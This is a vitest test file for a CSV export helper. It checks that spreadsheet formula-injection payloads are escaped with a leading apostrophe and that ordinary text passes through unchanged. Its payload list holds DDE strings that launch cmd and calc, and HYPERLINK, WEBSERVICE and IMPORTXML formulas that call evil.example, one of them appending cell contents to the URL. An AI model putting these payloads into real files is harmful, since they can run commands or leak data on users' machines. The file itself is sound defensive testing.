import { expect, it, test } from 'vitest';
import { csvText, runFilesCsv } from '../../../shared/runs/run-files-csv.ts';

/** What spreadsheets reckon, run or fetch where a cell begins so. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Open")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example")',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\tincoming',
  '\r=1+1',
  '\rincoming',
  '\n=1+1',
  '\nincoming',
  ' =1+1',
  '"=1+1',
  '\u200B=1+1',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(1)',
];

/** Cells of one line, as a reader of RFC 4180 takes them apart. */
const cellsOf = (line: string): readonly string[] =>
  [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(([, quoted, plain]) =>
    quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'),
  );

test.each(PAYLOADS)('%j is shown, not reckoned', (payload) => {
  const cell = csvText(payload);
  expect(cellsOf(cell)).toEqual([`'${payload}`]);
});

test.each(['incoming/2024/harbour.txt', 'a-b+c=d@e', 'a, "b"; c', '', 'été/日本.xml'])(
  '%j stays as it is',
  (text) => {
    expect(cellsOf(csvText(text))).toEqual([text]);
  },
);

it('counts stay numbers, and what is between the cells of a key stays in it', () => {
  const key = '1,"=2+2"\r\n=3+3';
  const [file] = [
    { key, state: 'failed', bytes: 7, out: 0, duplicates: 0, superseded: 0, refused: 1, reasons: ['-', 'x'] },
  ] as const;
  const text = runFilesCsv([file], false);
  expect(cellsOf(text.slice(0, -2))).toEqual([key, 'failed', '', '7', '0', '0', '0', '1', "'-; x"]);
});
